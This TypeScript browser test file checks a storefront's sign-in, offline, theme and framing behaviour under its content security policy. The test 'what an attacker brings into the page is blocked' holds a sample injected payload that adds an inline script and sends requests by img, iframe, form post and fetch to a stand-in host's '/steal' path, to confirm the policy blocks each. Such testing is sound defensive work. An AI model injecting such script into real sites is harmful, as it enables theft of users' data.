/** The storefront in a browser, at the gateway, under the content security policy that it has in Azure too. */

import { type Browser, type BrowserContext, chromium, type Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { seededUsers } from '../local/identity/seed.ts';
import { choosePorts } from '../local/ports.ts';
import { patient } from './support/browser.ts';
import { haveProgram } from './support/debian.ts';
import { freePort } from './support/free-port.ts';
import { openTestShop, type TestShop } from './support/shop.ts';

const flags = ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking'];
const alice = seededUsers.find(({ username }) => username === 'alice');

/** Runs in the page: an inline script, an inline style, and four ways to carry something elsewhere. */
const attack = `{
  const elsewhere = 'http://127.0.0.1:9';
  const add = (tag, attributes, text = '') => {
    const element = Object.assign(document.createElement(tag), { textContent: text });
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    document.body.append(element);
    return element;
  };
  add('script', {}, 'window.stolen = true');
  add('div', { style: 'color: red' });
  add('img', { src: elsewhere + '/picture.png' });
  add('iframe', { src: elsewhere });
  add('form', { action: elsewhere, method: 'post' }).submit();
  void fetch(elsewhere + '/steal').catch(() => undefined);
}`;

describe.skipIf(!haveProgram('chromium'))('in Chromium', () => {
  let shop: TestShop;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  /** What the browser complained of: blocked by the policy, thrown, or answered with an error. */
  let complaints: string[];

  beforeAll(async () => {
    [shop, browser] = await Promise.all([
      openTestShop({ hosts: 'one', ports: { ...choosePorts('0', {}), gateway: await freePort() } }),
      chromium.launch({ executablePath: '/usr/bin/chromium', args: flags }),
    ]);
  });
  afterAll(async () => {
    await browser?.close();
    await shop?.close();
  });

  beforeEach(async () => {
    complaints = [];
    context = await browser.newContext({ locale: 'en-US' });
    page = await context.newPage();
    page.on('console', (message) => {
      if (message.type() === 'error') complaints.push(message.text());
    });
    page.on('pageerror', (error) => complaints.push(error.message));
  });
  afterEach(() => context.close());

  const signIn = async (): Promise<void> => {
    await page.goto(shop.gateway);
    await page.getByRole('button', { name: 'Sign in' }).first().click();
    await page.locator('input[autocomplete=username]').fill(alice?.username ?? '');
    await page.locator('input[type=password]').fill(alice?.password ?? '');
    await page.locator('input[type=password]').press('Enter');
    await page.getByRole('button', { name: `Account of ${alice?.name}` }).waitFor();
  };

  test('shelves with pictures, the chosen theme and the offline page work, and nothing is blocked', async () => {
    await page.goto(shop.gateway);
    await page.evaluate("localStorage.setItem('kittiwake.theme', 'dark')");
    await page.reload();
    await page.locator('main img').first().waitFor();
    expect(await page.evaluate("document.querySelector('main img').decode().then(() => 'a picture')")).toBe(
      'a picture',
    );
    expect(await page.evaluate('document.documentElement.dataset.theme')).toBe('dark');
    await page.evaluate('navigator.serviceWorker.ready.then(() => true)');
    await context.setOffline(true);
    await page.goto(`${shop.gateway}/orders`);
    expect(await page.title()).toMatch(/offline|network/i);
    expect(complaints.filter((text) => !text.includes('ERR_INTERNET_DISCONNECTED'))).toEqual([]);
  });

  test('a shopper signs in at the provider, sees orders and addresses, and signs out, and nothing is blocked', async () => {
    await signIn();
    for (const [path, text] of [
      ['/orders', 'No orders yet'],
      ['/profile', 'No address is saved yet.'],
      ['/profile', 'Change name, e-mail or password'],
      ['/basket', 'Your basket is empty'],
      ['/checkout?step=delivery', 'Your basket is empty'],
    ] as const) {
      await page.goto(shop.gateway + path);
      await page.getByText(text).waitFor();
    }
    await page.getByRole('button', { name: /^Account of/ }).click();
    await page.getByRole('button', { name: 'Sign out' }).click();
    await page.waitForURL((url) => url.origin === shop.issuer);
    await page.getByRole('button').first().click();
    await page.waitForURL(`${shop.gateway}/**`);
    await page.getByRole('button', { name: 'Sign in' }).first().waitFor();
    expect(complaints).toEqual([]);
  });

  test('the pages of the account lead back to the shop, wherever that is', async () => {
    await signIn();
    await page.goto(`${shop.issuer}/account`);
    await page.locator('a[href="/shop"]').first().click();
    await page.waitForURL(`${shop.gateway}/`);
    await page.getByRole('button', { name: `Account of ${alice?.name}` }).waitFor();
    expect(complaints).toEqual([]);
  });

  test('what an attacker brings into the page is blocked', async () => {
    await page.goto(shop.gateway);
    await page.evaluate(attack);
    const directives = () =>
      new Set(complaints.flatMap((text) => /policy directive:? ["']([\w-]+)/i.exec(text)?.[1] ?? []));
    await expect
      .poll(directives, patient)
      .toEqual(new Set(['script-src', 'style-src', 'img-src', 'default-src', 'form-action', 'connect-src']));
    expect(await page.evaluate("'stolen' in window")).toBe(false);
  });

  test('no other page may show the shop in a frame', async () => {
    await page.setContent(`<iframe src="${shop.gateway}/"></iframe>`);
    await expect.poll(() => complaints.join(), patient).toContain('frame-ancestors');
  });
});
